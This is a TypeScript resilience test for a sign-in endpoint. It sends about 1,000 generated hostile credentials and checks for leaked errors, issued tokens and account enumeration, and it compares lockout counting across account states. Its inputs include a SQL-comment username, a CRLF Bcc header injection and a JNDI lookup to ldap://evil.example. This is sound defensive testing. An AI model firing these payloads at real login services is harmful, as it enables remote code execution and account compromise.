import * as fc from 'fast-check';
import { randomUUID } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';

import { record, setting } from './support/figures';
import { captureLogs } from './support/logs';
import { hostileString, INJECTION_PAYLOADS, SPLITTING, UNICODE_EDGES } from './support/hostile';
import { cognitoCall } from './support/sign-in';
import { attemptKey } from '#auth/domain/attempt-key';
import { SIGN_IN_UNAVAILABLE_MESSAGE } from '#auth/domain/sign-in';

/**
 * Sign-in abuse through the local Cognito endpoint (the emulator behind our proxy, with the real
 * triggers on PostgreSQL): RESILIENCE_SIGN_IN_ATTEMPTS hostile attempts (default 1,000), then the
 * lockout compared for an existing, a disabled and an unknown account.
 */
const ATTEMPTS = setting('SIGN_IN_ATTEMPTS', 1_000);
const CONCURRENCY = 8;

// The triggers log at INFO, so the test can read which invocation each "sign-in blocked" line
// names. The logger reads its level once, on import: set it before anything loads it.
process.env.POWERTOOLS_LOG_LEVEL = 'INFO';
const { startDevServer } = await import('../../bin/local/dev-server');
type DevServer = Awaited<ReturnType<typeof startDevServer>>;

let server: DevServer;
let dataDir: string;
let db: pg.Pool;

/** What the test keeps of a log line: its message, and the invocation and request it names. */
const keepNames = (line: Record<string, unknown>) => ({
  message: line.message,
  invocation: line.function_request_id,
  function: line.function_name,
  requestId: line.requestId,
  route: line.route,
});
const logs = captureLogs(keepNames);

beforeAll(async () => {
  dataDir = await mkdtemp(join(tmpdir(), 'parley-resilience-sign-in-'));
  process.env.DATABASE_URL = inject('databaseUrl');
  server = await startDevServer({ port: 0, cognitoPort: 0, dataDir, quiet: true, bootstrapAdmin: false });
  db = new pg.Pool({ connectionString: inject('databaseUrl'), max: 2 });
}, 180_000);

afterAll(async () => {
  await db?.end();
  await server?.stop();
  if (dataDir) await rm(dataDir, { recursive: true, force: true });
  logs.stop();
});

const signIn = (username: unknown, password: unknown) =>
  cognitoCall(server.cognitoEndpoint, 'InitiateAuth', {
    AuthFlow: 'USER_PASSWORD_AUTH',
    ClientId: server.clientId,
    AuthParameters: { USERNAME: username, PASSWORD: password },
  });

/** What no answer may hold: our insides, or words that tell an account exists or is disabled. */
const INTERNAL =
  /\bat \S+ \(|\bat \S+:\d+:\d+|node_modules|\.ts:\d+|TypeError|ReferenceError|RangeError|SyntaxError|SQLSTATE|syntax error|violates|postgres|ECONN|Cannot read|undefined|\[object Object\]/i;
const EXISTENCE = /disabled|does not exist|not found|UserNotFound/i;

const password = fc.oneof(
  hostileString,
  fc.constantFrom('', ' ', 'a'.repeat(300), 'Passw0rd!', 'x\u0000y', ...INJECTION_PAYLOADS),
);
const username = fc.oneof(
  hostileString,
  fc.emailAddress(),
  fc.constantFrom(
    '',
    'admin',
    'root@localhost',
    "admin'--@example.test",
    'a@b.c\r\nBcc: x@evil.example',
    '${jndi:ldap://evil.example/a}',
    ...SPLITTING,
    ...UNICODE_EDGES,
  ),
  // Not even strings: what a client library would never send, and an attacker would.
  fc.constantFrom(null, 42, true, ['a'], { __proto__: null }),
);

describe('sign-in abuse', () => {
  it(`${ATTEMPTS.toLocaleString('en')} hostile sign-in attempts: no internal error text, no tokens, every check ran`, async (context) => {
    const cases = fc.sample(fc.tuple(username, password), { numRuns: ATTEMPTS, seed: 13 });
    const answers = new Map<string, number>();
    const bad: string[] = [];
    let next = 0;
    logs.lines.length = 0;
    logs.collecting = true;
    await Promise.all(
      Array.from({ length: CONCURRENCY }, async () => {
        for (let i = next++; i < cases.length; i = next++) {
          const [user, pass] = cases[i] as [unknown, unknown];
          const answer = await signIn(user, pass);
          const type = String(answer.body.__type ?? answer.body.code ?? '?');
          const message = String(answer.body.message ?? answer.body.Message ?? '');
          const key = `${answer.status} ${type}: ${message}`;
          answers.set(key, (answers.get(key) ?? 0) + 1);
          const problem =
            answer.status >= 500
              ? 'a 5xx'
              : answer.body.AuthenticationResult
                ? 'tokens'
                : INTERNAL.test(answer.text)
                  ? 'internal text'
                  : EXISTENCE.test(answer.text)
                    ? 'a word that tells the account exists'
                    : answer.text.includes(SIGN_IN_UNAVAILABLE_MESSAGE)
                      ? 'the pre-authentication check failed (the attempt went uncounted)'
                      : undefined;
          if (problem)
            bad.push(
              `${problem}: ${JSON.stringify([user, pass]).slice(0, 120)} → ${answer.text.slice(0, 200)}`,
            );
        }
      }),
    );
    logs.collecting = false;
    // Each refusal of a locked account is one "sign-in blocked" line of the pre-authentication
    // trigger, naming that trigger's invocation and no API request.
    const locked = [...answers].filter(([k]) => k.includes('Account locked')).reduce((n, [, c]) => n + c, 0);
    const blocked = logs.lines.filter((l) => l.message === 'sign-in blocked');
    const invocations = new Set(blocked.map((l) => l.invocation));
    const misnamed = blocked.filter(
      (l) =>
        typeof l.invocation !== 'string' ||
        l.function !== 'parley-local-pre-authentication' ||
        l.requestId !== undefined ||
        l.route !== undefined,
    );
    const apiLines = logs.lines.filter((l) => l.requestId !== undefined || l.route !== undefined);
    record(
      context,
      { name: 'attempts', value: cases.length, target: `${ATTEMPTS}` },
      { name: 'answers', value: [...answers].map(([k, n]) => `${n}× ${k}`).join(' | ') },
      {
        name: 'answers with internal text, a 5xx, tokens or a failed check',
        value: bad.length,
        target: '0',
      },
      {
        name: '"sign-in blocked" lines / "Account locked" answers; lines not naming their own invocation',
        value: `${blocked.length} / ${locked}; ${misnamed.length + (blocked.length - invocations.size)}`,
        target: 'one a refusal; 0',
      },
    );
    expect(bad.slice(0, 10)).toEqual([]);
    expect(locked).toBeGreaterThan(0);
    expect(blocked).toHaveLength(locked);
    expect(misnamed).toEqual([]);
    expect(invocations.size).toBe(blocked.length);
    expect(apiLines).toEqual([]);
  });

  it('counts the lockout the same way for existing, disabled and unknown accounts, and for names no account can have', async (context) => {
    const password = `${randomUUID()}aA1!`;
    const existing = await server.createUser({
      email: `abuse-${randomUUID().slice(0, 8)}@example.test`,
      password,
      role: 'members',
    });
    const disabled = await server.createUser({
      email: `abuse-${randomUUID().slice(0, 8)}@example.test`,
      password,
      role: 'members',
    });
    await db.query("update users set status = 'disabled' where id = $1", [disabled.id]);
    const unknown = `abuse-${randomUUID().slice(0, 8)}@example.test`;

    const sequence = async (email: string, right: string) => {
      const seen: string[] = [];
      for (let i = 0; i < 6; i += 1) {
        const answer = await signIn(email, `Wrong-${i}-${randomUUID()}`);
        seen.push(`${answer.status} ${String(answer.body.__type)}: ${String(answer.body.message)}`);
      }
      const last = await signIn(email, right);
      seen.push(`right password → ${last.status} ${String(last.body.__type)}: ${String(last.body.message)}`);
      const counted = await db.query<{ failed_count: number; locked: boolean }>(
        'select failed_count, locked_until > now() as locked from sign_in_attempts where username = $1',
        [attemptKey(email)],
      );
      return { seen, counted: counted.rows[0] ?? { failed_count: 0, locked: false } };
    };
    const forExisting = await sequence(existing.email, password);
    const forDisabled = await sequence(disabled.email, password);
    const forUnknown = await sequence(unknown, password);
    // Names no account can have: PostgreSQL holds no NUL (nor jsonb a lone surrogate), and no
    // e-mail address is this long.
    const forNul = await sequence(`abuse-${randomUUID().slice(0, 8)}\u0000@example.test`, password);
    const forLone = await sequence(`abuse-${randomUUID().slice(0, 8)}\ud800@example.test`, password);
    const forLong = await sequence(
      `${Array.from({ length: 100 }, () => randomUUID()).join('')}@example.test`,
      password,
    );
    const line = (of: { seen: string[]; counted: unknown }) =>
      `${JSON.stringify(of.counted)} ${of.seen.join(' / ')}`;
    record(
      context,
      { name: 'existing', value: line(forExisting) },
      { name: 'disabled', value: line(forDisabled) },
      { name: 'unknown', value: line(forUnknown) },
      { name: 'unknown, holding NUL', value: line(forNul) },
      { name: 'unknown, holding a lone surrogate', value: line(forLone) },
      { name: 'unknown, 3.6 KB', value: line(forLong) },
    );
    expect(forExisting.counted).toMatchObject({ failed_count: 5, locked: true });
    expect(forDisabled.seen).toEqual(forExisting.seen);
    expect(forDisabled.counted).toEqual(forExisting.counted);
    expect(forUnknown.seen).toEqual(forExisting.seen);
    expect(forUnknown.counted).toEqual(forExisting.counted);
    for (const impossible of [forNul, forLone, forLong]) {
      expect(impossible.seen).toEqual(forExisting.seen);
      expect(impossible.counted).toEqual(forExisting.counted);
    }
  });
});
